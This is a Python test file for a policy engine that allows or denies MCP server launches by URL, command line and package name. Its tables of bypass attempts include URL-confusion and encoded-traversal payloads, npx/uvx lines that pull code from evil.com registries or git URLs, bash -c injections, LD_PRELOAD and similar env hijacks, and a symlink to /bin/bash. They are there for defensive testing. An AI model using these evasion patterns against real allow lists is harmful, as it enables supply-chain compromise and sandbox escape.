"""The matches of a pattern: in doubt, a pattern that allows does not match, and one that denies does."""

import os
import shlex
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.inside.config import (
    Administrator,
    AdministratorPolicy,
    LaunchList,
    PolicyFile,
    ResolvedLaunch,
    url_allowed,
    url_denied,
    url_problem,
)
from tests.inside.connect import parse_url

CORP = "https://*.example.com/*"


def policy(allow: LaunchList | None = None, deny: LaunchList | None = None) -> Administrator:
    given_lists = AdministratorPolicy(allow=allow or LaunchList(), deny=deny or LaunchList())
    return Administrator(files=(PolicyFile(path="/p", policy=given_lists),))


def program(line: str, *variables: str, cwd: str | None = None) -> ResolvedLaunch:
    command, *args = shlex.split(line)
    return ResolvedLaunch(command=command, args=tuple(args), variables=frozenset(variables), cwd=cwd)


def refusal(administrator: Administrator, launch: ResolvedLaunch) -> str | None:
    """The list that refuses it."""
    error = administrator.refusal(launch, "it", "server")
    return None if error is None else error.key


def argv(*lines: str) -> LaunchList:
    return LaunchList(argv=tuple(tuple(shlex.split(line)) for line in lines))


URLS = [
    # a pattern, a URL, whether it is allowed
    (CORP, "https://a.example.com/mcp", True),
    (CORP, "https://a.b.example.com/mcp/v1?key=1", True),
    (CORP, "https://A.EXAMPLE.com", True),
    (CORP, "HTTPS://a.example.com/", True),
    (CORP, "https://user:secret@a.example.com/", True),
    (CORP, "https://a.example.com:443/mcp", True),
    (CORP, "https://a.example.com:8443/mcp", False),
    (CORP, "http://a.example.com/mcp", False),
    (CORP, "https://example.com/", False),
    (CORP, "https://evil.com/x.example.com/", False),
    (CORP, "https://evil.com/?.example.com/", False),
    (CORP, "https://evil.com#.example.com/", False),
    (CORP, "https://evil.com?a.example.com/", False),
    (CORP, "https://a.example.com@evil.com/", False),
    (CORP, "https://a.example.com:pw@evil.com/", False),
    (CORP, "https://a.example.com%2f@evil.com/", False),
    (CORP, "https://evil.com\\@a.example.com/", False),
    (CORP, "https://evil.com\\.example.com/", False),
    (CORP, "https://evil.com/\t.example.com/", False),
    (CORP, "https://a.example.com.evil.com/", False),
    (CORP, "https://a.example.com./", False),
    (CORP, "https://[::1]/.example.com/", False),
    (CORP, "https:///a.example.com/", False),
    (CORP, "https://a.example.com:port/", False),
    (CORP, "http+unix://%2Frun%2Fa.example.com/", False),
    ("https://a.example.com:*", "https://a.example.com:8443/any", True),
    ("https://a.example.com:8443/*", "https://a.example.com/x", False),
    ("https://a.example.com/public/*", "https://a.example.com/public/mcp", True),
    ("https://a.example.com/public/*", "https://a.example.com/public/a/b", True),
    ("https://a.example.com/public/*", "https://a.example.com/private", False),
    ("https://a.example.com/public/*", "https://a.example.com/public/../private", False),
    ("https://a.example.com/public/*", "https://a.example.com/public/%2e%2e/private", False),
    ("https://a.example.com/public/*", "https://a.example.com/public/%252e%252e/private", False),
    ("https://a.example.com/public/*", "https://a.example.com/public/..%2fprivate", False),
    ("https://a.example.com/public/*", "https://a.example.com/public/..%5cprivate", False),
    ("https://a.example.com/mcp", "https://a.example.com/mcp", True),
    ("https://a.example.com/mcp", "https://a.example.com/mcp/more", False),
    ("https://m*nchen.example.com", "https://mxnchen.example.com/", True),
    ("https://xn--mnchen-3ya.example.com", "https://münchen.example.com/", True),
    ("https://münchen.example.com", "https://xn--mnchen-3ya.example.com/", True),
    ("https://*.MÜNCHEN.example.com", "https://a.münchen.example.com/", True),
    ("https://fass.de", "https://faß.de/", False),
    ("https://faß.de", "https://fass.de/", False),
    ("https://faß.de", "https://FAẞ.de/", True),
    ("https://*.faß.de", "https://a.fass.de/", False),
    ("https://m*ü.example.com", "https://mxü.example.com/", False),
    ("http://[::1]:*/*", "http://[::1]:8000/mcp", True),
    ("http+unix://%2Frun%2Fcorp%2F*/*", "http+unix://%2Frun%2Fcorp%2Fa.sock/mcp", True),
    ("http+unix://%2Frun%2Fcorp%2F*/*", "http+unix://%2Frun%2Fcorp%2F..%2Fevil.sock/mcp", False),
    ("http+unix://%2Frun%2Fcorp%2F*/*", "http+unix://%2Ftmp%2Fevil.sock/run/corp/a.sock", False),
]


@pytest.mark.parametrize(("pattern", "url", "is_allowed"), URLS)
def test_a_url_that_looks_like_an_allowed_one(pattern: str, url: str, is_allowed: bool) -> None:
    """Only scheme, host, port and path decide, as the connection takes them."""
    assert url_allowed(pattern, url) is is_allowed


@given(
    st.text(alphabet="ab.@:/\\?#%2fF[]\t \u3002\uff0eé-", max_size=12),
    st.sampled_from(
        ["https://{}a.example.com/", "https://a.example.com{}/", "https://a.example.com{}evil.com/x"]
    ),
)
def test_a_url_of_odd_characters_around_an_allowed_host(text: str, frame: str) -> None:
    """If it is allowed, the connection goes to that host."""
    url = frame.format(text)
    if url_allowed(CORP, url):
        assert parse_url(url).host.endswith(".example.com")


@given(st.text(alphabet="ab.@:/\\?#%2fF[]\t \u3002\uff0eé-", max_size=12))
def test_a_url_of_odd_characters_around_a_denied_host(text: str) -> None:
    """If the connection would go to that host, it is denied."""
    url = f"https://{text}evil.com/"
    try:
        goes_to = parse_url(url).host
    except ValueError:
        return
    if goes_to.rstrip(".") == "evil.com":
        assert url_denied("https://evil.com", url)


@pytest.mark.parametrize(
    "url",
    [
        "http://evil.com/",
        "http://EVIL.com./x",
        "http://evil.com:8080/",
        "http://user@evil.com/",
        "http://evil.com/%61dmin",
        "http://evil.com/x/../admin",
        "http://evil.com:port/",
    ],
)
def test_another_spelling_of_a_denied_url(url: str) -> None:
    """It is also denied."""
    pattern = "http://evil.com/admin" if "dmin" in url else "http://evil.com"
    assert url_denied(pattern, url)
    assert not url_denied("http://other.com", url) or ":port" in url


@pytest.mark.parametrize(
    "url", ["https://faß.de/", "https://xn--fa-hia.de/", "https://FAẞ.DE./", "https://❤.de/"]
)
def test_another_spelling_of_a_denied_host(url: str) -> None:
    """It is also denied; IDNA 2003 maps it to a different host."""
    assert url_denied("https://faß.de", url)
    assert not url_denied("https://faß.de", "https://fass.de/")
    assert url_denied("https://m*ü.de", url), "in doubt"


@pytest.mark.parametrize("pattern", ["https://m*ü.example.com", "https://❤.example.com/*"])
def test_a_pattern_for_hosts_that_have_no_form_in_ascii(pattern: str) -> None:
    assert url_problem(pattern) == "its host is not a valid name; write it in ASCII (xn--...)"


NPX = "npx -y @modelcontextprotocol/* **"
LINES = [
    # an allowed line, a command line, whether it is allowed
    (NPX, "npx -y @modelcontextprotocol/server-x", True),
    (NPX, "npx -y @modelcontextprotocol/server-x@1.2.3 --root /srv", True),
    (NPX, "npx @modelcontextprotocol/server-x", False),
    (NPX, "npx -y", False),
    (NPX, "npx -y @modelcontextprotocol/x@git+https://evil.com/x", False),
    (NPX, "npx -y @modelcontextprotocol/x@npm:evil", False),
    (NPX, "npx -y @modelcontextprotocol/../evil", False),
    (NPX, "npx -y evil @modelcontextprotocol/x", False),
    (NPX, "npx --registry=http://evil.com -y @modelcontextprotocol/x", False),
    (NPX, "./npx -y @modelcontextprotocol/x", False),
    (NPX, "/tmp/npx -y @modelcontextprotocol/x", False),
    (NPX, "NPX -y @modelcontextprotocol/x", False),
    (NPX, "env npx -y @modelcontextprotocol/x", False),
    ("server", "server", True),
    ("server", "server --more", False),
    ("server *", "server /any/thing:at?all", True),
    ("server *", "server", False),
    ("server *", "server a b", False),
    ("server --root=/srv/*", "server --root=/srv/data", True),
    ("server --root=/srv/*", "server --root=/srv/../etc", False),
    ("server --root=/srv/*", "server --root=/srv/..", False),
    ("server --root=/srv/**", "server --root=/srv/a/b", True),
    ("server --root=/srv/**", "server --root=/srv/a/../../etc", False),
    ("server ../here", "server ../here", True),
    ("server '[a]'", "server a", False),
    ("server 'two words'", "server 'two words'", True),
    ("/opt/tools/* **", "/opt/tools/git-mcp --x", True),
    ("/opt/tools/* **", "/opt/tools/../../tmp/evil", False),
    ("/opt/tools/* **", "/opt/tools/deeper/evil", False),
    ("/opt/tools/* **", "opt/tools/evil", False),
    ("/opt/tools/* **", "~/opt/tools/evil", False),
]


@pytest.mark.parametrize(("pattern", "line", "is_allowed"), LINES)
def test_a_command_line_that_looks_like_an_allowed_one(pattern: str, line: str, is_allowed: bool) -> None:
    """Every word has to match, and no word may name another place."""
    assert (refusal(policy(allow=argv(pattern)), program(line)) is None) is is_allowed


@pytest.mark.parametrize(
    "variable",
    ["PATH", "LD_PRELOAD", "NODE_OPTIONS", "PYTHONPATH", "npm_config_registry", "UV_INDEX_URL", "BASH_ENV"],
)
def test_an_env_that_decides_what_an_allowed_command_line_runs(variable: str) -> None:
    """The command line is then not allowed."""
    administrator = policy(allow=argv("npx **", "/usr/bin/npx **"))
    assert refusal(administrator, program("npx x", variable)) == "allow.argv"
    assert refusal(administrator, program("/usr/bin/npx x", variable)) == "allow.argv"
    assert refusal(administrator, program("npx x", "API_KEY", "NODE_ENV")) is None


def test_a_bare_command_is_compared_with_a_path_as_the_system_finds_it(tmp_path: Path) -> None:
    name = Path(sys.executable).name
    found = os.path.abspath(sys.executable)
    assert refusal(policy(allow=argv(f"{found} **")), program(f"{found} -V")) is None
    assert refusal(policy(allow=argv(f"{tmp_path}/{name} **")), program(f"{name} -V")) == "allow.argv"
    assert refusal(policy(allow=argv(f"{tmp_path}/x **")), program("./x", cwd=str(tmp_path))) is None
    assert refusal(policy(allow=argv(f"{tmp_path}/x **")), program("./x", cwd="/")) == "allow.argv"


@pytest.mark.parametrize("line", ["bash", "bash -c x", "/bin/bash", "../bash x", "/bin/BASH", "~/bash"])
def test_a_denied_program_by_another_path(line: str) -> None:
    """It is denied by its name."""
    assert refusal(policy(deny=argv("bash **"), allow=argv("**")), program(line)) == "deny.argv"
    assert refusal(policy(deny=argv("bash")), program(line)) == "deny.argv"
    assert refusal(policy(deny=argv("bash")), program("bashful")) is None


def test_a_link_to_a_denied_program(tmp_path: Path) -> None:
    """It is denied by what it leads to."""
    (tmp_path / "harmless").symlink_to("/bin/bash")
    assert refusal(policy(deny=argv("/bin/bash", "bash")), program(f"{tmp_path}/harmless")) == "deny.argv"


MCP = ("npm:@modelcontextprotocol/*", "pypi:mcp-server-*")
PACKAGES = [
    ("npx -y @modelcontextprotocol/server-x", True),
    ("npx -y @modelcontextprotocol/server-x@1.2.3 --any argument", True),
    ("npx --yes --offline @modelcontextprotocol/server-x@latest", True),
    ("npx -y -- @modelcontextprotocol/server-x", True),
    ("npx -p @modelcontextprotocol/server-x server-x", True),
    ("npm exec -y @modelcontextprotocol/server-x -- --root .", True),
    ("uvx mcp-server-git==1.0 --repository .", True),
    ("uvx MCP_Server.git", True),
    ("uvx --python 3.12 mcp-server-git", True),
    ("uvx --from mcp-server-git==1.0 mcp-server-git", True),
    ("uv tool run mcp-server-git", True),
    ("pipx run mcp-server-git", True),
    ("npx -y evil", False),
    ("npx -y @modelcontextprotocol/server-x@npm:evil", False),
    ("npx -y @modelcontextprotocol/x@https://evil.com/x.tgz", False),
    ("npx -y @modelcontextprotocol/x@evil.tgz", False),
    ("npx -y @modelcontextprotocol/x@../evil", False),
    ("npx -y @modelcontextprotocol/../evil", False),
    ("npx -p @modelcontextprotocol/server-x bash -c evil", False),
    ("npx -p @modelcontextprotocol/x -p evil x", False),
    ("npx -c evil @modelcontextprotocol/x", False),
    ("npx --registry=https://evil.com @modelcontextprotocol/x", False),
    ("npx --registry https://evil.com @modelcontextprotocol/x", False),
    ("npx --userconfig=evil @modelcontextprotocol/x", False),
    ("npm exec @modelcontextprotocol/x --package=evil", False),
    ("npm install evil @modelcontextprotocol/x", False),
    ("npx", False),
    ("npx -y", False),
    ("/tmp/npx @modelcontextprotocol/x", False),
    ("./npx @modelcontextprotocol/x", False),
    ("env npx @modelcontextprotocol/x", False),
    ("bash -c 'npx @modelcontextprotocol/x'", False),
    ("uvx --from mcp-server-git python -c evil", False),
    ("uvx --with evil mcp-server-git", False),
    ("uvx --index-url https://evil.com mcp-server-git", False),
    ("uvx --python /tmp/evil mcp-server-git", False),
    ("uvx mcp-server-git@git+https://evil.com/x", False),
    ("uvx 'mcp-server-git @ https://evil.com/x.whl'", False),
    ("uvx ./mcp-server-git", False),
    ("uvx mcp-server-git.whl", False),
    ("uvx git+https://evil.com/mcp-server-git", False),
    ("uv --index-url https://evil.com tool run mcp-server-git", False),
    ("uvx @modelcontextprotocol/x", False),
    ("npx mcp-server-git", False),
]


@pytest.mark.parametrize(("line", "is_allowed"), PACKAGES)
def test_a_launcher_that_runs_something_else_with_an_allowed_package(line: str, is_allowed: bool) -> None:
    """It is allowed only if it is certain that the package, and nothing else, runs."""
    found = refusal(policy(allow=LaunchList(packages=MCP)), program(line))
    assert found == (None if is_allowed else "allow.packages")


def test_with_both_lists_a_launcher_has_to_be_in_both_and_another_program_in_the_first() -> None:
    both = LaunchList(argv=(("npx", "**"), ("/opt/x", "**")), packages=MCP)
    assert refusal(policy(allow=both), program("npx -y @modelcontextprotocol/x")) is None
    assert refusal(policy(allow=both), program("npx -y evil")) == "allow.packages"
    assert refusal(policy(allow=both), program("uvx mcp-server-git")) == "allow.argv"
    assert refusal(policy(allow=both), program("/opt/x run")) is None


@pytest.mark.parametrize(
    "line",
    [
        "npx evil-1",
        "npx -y evil-1@2.0.0",
        "npx -p evil-1 run",
        "npx -p good -p evil-1 good",
        "npx good@npm:evil-1@1.0.0",
        "npm exec good --package=evil-1",
        "env X=1 npx evil-1",
        "sh -c 'cd / && npx evil-1'",
    ],
)
def test_a_denied_package_behind_another_one(line: str) -> None:
    """It is denied wherever a launcher could get its name from."""
    assert refusal(policy(deny=LaunchList(packages=("npm:evil-*",))), program(line)) == "deny.packages"


def test_an_argument_of_a_server_that_is_named_like_a_denied_package_is_not_denied() -> None:
    assert refusal(policy(deny=LaunchList(packages=("npm:evil-*",))), program("npx good evil-1")) is None


def test_an_empty_list_allows_nothing_and_a_list_that_is_not_given_does_not_restrict() -> None:
    nothing = LaunchList(argv=())
    assert refusal(policy(allow=nothing), program("anything")) == "allow.argv"
    assert refusal(policy(allow=nothing), ResolvedLaunch(url="http://x/")) is None
    assert refusal(policy(allow=LaunchList(urls=())), ResolvedLaunch(url="http://x/")) == "allow.urls"
    assert refusal(policy(allow=LaunchList(urls=())), program("anything")) is None


def test_of_several_files_each_has_to_permit() -> None:
    first, second = policy(allow=argv("a **", "b **")), policy(allow=argv("b **", "c **"))
    both = Administrator(files=first.files + second.files)
    assert [refusal(both, program(line)) for line in ("a", "b", "c")] == ["allow.argv", None, "allow.argv"]
